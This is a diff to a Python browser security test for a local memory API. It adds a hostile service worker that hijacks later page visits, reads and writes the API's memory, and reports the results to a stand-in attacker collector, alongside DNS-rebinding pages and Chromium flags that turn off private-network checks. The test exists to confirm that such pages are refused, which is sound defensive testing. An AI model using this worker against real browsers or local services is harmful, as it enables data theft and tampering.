@@ -2,7 +2,8 @@
 """Promise: a web page in a browser on this machine can neither write to the memory nor read it.
 
 A real Chromium visits pages of an attacker's web server, whose names a DNS server of this test answers: forms, fetch without CORS, beacons,
-frames, and DNS rebinding, where the attacker's own name leads to 127.0.0.1 after the page has been loaded.
+frames, and DNS rebinding, where the attacker's own name leads to 127.0.0.1 after the page has been loaded. And a page of a
+program that had the API's own address before it, which leaves a service worker in the browser.
 
 usage: browser.py CHROMIUM     as root, where 127.0.0.1:8003 is the API and nothing else matters; /etc/resolv.conf must name 127.0.0.1
 """
@@ -23,8 +24,12 @@ from contextlib import closing
 API = ("127.0.0.1", 8003)
 # The ports of Prometheus and its exporter in docker-compose.yml.
 METRICS = (6668, 6669)
-# Where the attacker's server is before the name is rebound: the API has only 127.0.0.1 of this port.
+# Where the attacker's server is before the name is rebound, and the program that has the API's address while NEXUS does not: the API has
+# only 127.0.0.1 of this port.
 BEFORE = "127.0.0.66"
+# To a browser with this flag that program is at the API's address.
+WITHOUT_NEXUS = f"--host-resolver-rules=MAP 127.0.0.1:8003 {BEFORE}:8003"
+RECENT = "/memory/episodic/recent"
 COLLECT = "http://collect.example:9666"
 MARK = f"written-by-a-page-{uuid.uuid4().hex}"
 NOTE = json.dumps({"action_type": "note", "action_details": {"content": MARK}})
@@ -53,16 +58,17 @@ class Attacker(http.server.BaseHTTPRequestHandler):
     """The pages, and what they report."""
 
     def do_GET(self):
-        page = PAGES.get(self.path)
-        self.answer(200 if page else 404, (page or "").encode())
+        path = self.path.partition("?")[0]
+        page = PAGES.get(path)
+        self.answer(200 if page else 404, (page or "").encode(), "text/javascript" if path.endswith(".js") else "text/html")
 
     def do_POST(self):
         reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
         self.answer(200, b"")
 
-    def answer(self, status, body):
+    def answer(self, status, body, kind="text/html"):
         self.send_response(status)
-        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Type", f"{kind}; charset=utf-8")
         self.send_header("Content-Length", str(len(body)))
         self.send_header("X-Attacker", "yes")
         self.send_header("Connection", "close")
@@ -134,6 +140,36 @@ const ports = {list(METRICS)}, names = ['127.0.0.1', 'localhost', 'evil.example'
     await new Promise(done => setTimeout(done, 100));
   }}
 }})();</script>""",
+    # At the API's address: a service worker, which gets every later visit.
+    "/before": f"""<!doctype html><meta charset=utf-8><script>{SAY}
+navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => say({{page: 'before'}}));</script>""",
+    # Each way by which a worker can read what the owner opens by hand, or a page that it shows in its place can ask.
+    "/worker.js": f"""{SAY}
+const text = answer => answer.then(answer => answer.text(), String);
+const asks = async () => {{
+  const post = (path, body) => text(fetch(path, {{method: 'POST', body, headers: {{'Content-Type': 'application/json'}}}}));
+  return {{read: await text(fetch('{RECENT}')), found: await post('/memory/search', '{{"query": "owner"}}'), wrote: await post('/memory/action', {json.dumps(NOTE)})}};
+}};
+const page = `<!doctype html><script>
+const say = ${{say}}, text = ${{text}};
+addEventListener('load', async () => {{
+  const asked = await (${{asks}})(), opened = open('{RECENT}');
+  while (opened.location.href === 'about:blank' || opened.document.readyState !== 'complete') await new Promise(done => setTimeout(done, 50));
+  await say({{page: 'shown', asked: {{...asked, opened: opened.document.body.innerText}}}});
+}});
+</script>`;
+const show = async event => {{
+  await say({{page: 'worker', asked: {{preloaded: await text(event.preloadResponse), passed: await text(fetch(event.request)), ...await asks()}}}});
+  return new Response(page, {{headers: {{'Content-Type': 'text/html'}}}});
+}};
+let shown = false;
+addEventListener('install', () => skipWaiting());
+addEventListener('activate', event => event.waitUntil(registration.navigationPreload.enable()));
+addEventListener('fetch', event => {{
+  if (event.request.mode !== 'navigate' || shown) return;
+  shown = true;
+  event.respondWith(show(event));
+}});""",
 }
 
 
@@ -159,16 +195,21 @@ def serve(server):
     return server
 
 
-class Visit:
-    """A browser at a page, until what it is to report has come."""
+def command(chromium, profile, *more):
+    """A browser without a window, and its profile."""
+    return [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
+            "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking", f"--user-data-dir={profile}",
+            # What Chromium itself keeps from loopback is not what is tested, and other browsers have not got it.
+            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,AsyncDns", *more]
 
-    def __init__(self, chromium, url):
-        self.profile = tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True)
-        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
-                 "--disable-sync", "--disable-dev-shm-usage", f"--user-data-dir={self.profile.name}",
-                 # What Chromium itself keeps from loopback is not what is tested, and other browsers have not got it.
-                 "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,AsyncDns", "--remote-debugging-port=0"]
-        self.process = subprocess.Popen([chromium, *flags, url], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+class Visit:
+    """A browser at a page, until what it is to report has come. In a profile that is given it keeps what a browser keeps."""
+
+    def __init__(self, chromium, url, *more, profile=None):
+        self.own = tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True)
+        flags = command(chromium, profile or self.own.name, "--remote-debugging-port=0", *more)
+        self.process = subprocess.Popen([*flags, url], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 
     def __enter__(self):
         return self
@@ -180,9 +221,9 @@ class Visit:
                 return report
 
     def __exit__(self, *_):
-        self.process.kill()
-        self.process.wait()
-        self.profile.cleanup()
+        self.process.terminate()
+        self.process.wait(60)
+        self.own.cleanup()
 
 
 def no_page_writes(chromium):
@@ -217,6 +258,28 @@ def no_name_is_rebound(chromium):
     expect(MARK not in ask("GET", "/memory/export")[1], "a rebound page stored an episode")
 
 
+def no_page_of_an_earlier_program_reads(chromium):
+    before = serve(http.server.ThreadingHTTPServer((BEFORE, 8003), Attacker))
+    with tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True) as profile:
+        with Visit(chromium, "http://127.0.0.1:8003/before", WITHOUT_NEXUS, profile=profile) as visit:
+            visit.reported("before")
+        with Visit(chromium, f"http://127.0.0.1:8003{RECENT}", profile=profile) as visit:
+            asked = [pair for page in ("worker", "shown") for pair in visit.reported(page)["asked"].items()]
+    for way, said in asked:
+        expect('"code":"foreign_origin"' in said, f"{way}: a page of an earlier program was answered {said[:200]}")
+    expect(MARK not in ask("GET", "/memory/export")[1], "a page of an earlier program stored an episode")
+    before.shutdown()
+    before.server_close()
+
+
+def the_owner_sees_that_it_runs(chromium):
+    with tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True) as profile:
+        for path, words in ("/", "<h1>NEXUS API"), ("/health", '"status"'), (RECENT, '"code":"foreign_origin"'):
+            flags = command(chromium, profile, "--dump-dom", f"http://127.0.0.1:8003{path}")
+            seen = subprocess.run(flags, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=180, check=True, text=True).stdout
+            expect(words in seen, f"at {path} the owner sees {seen[:200]}")
+
+
 class Metrics(http.server.ThreadingHTTPServer):
     """Stands where Prometheus does, and counts who comes."""
 
@@ -249,10 +312,10 @@ def main():
     own = json.dumps({"action_type": "note", "action_details": {"content": f"of-the-owner {uuid.uuid4().hex}"}})
     expect(ask("POST", "/memory/action", own)[0] == 200, "the owner cannot store")
     expect(ask("POST", "/memory/working/add?episode_id=kept", "[]")[0] == 200, "the owner cannot add to the working memory")
-    for check in no_page_writes, no_page_frames, no_name_is_rebound, no_page_reaches_metrics:
+    for check in no_page_writes, no_page_frames, no_name_is_rebound, no_page_of_an_earlier_program_reads, the_owner_sees_that_it_runs, no_page_reaches_metrics:
         check(chromium)
         print(f"ok {check.__name__}")
-    print("4 passed, 0 failed")
+    print("6 passed, 0 failed")
 
 
 if __name__ == "__main__":
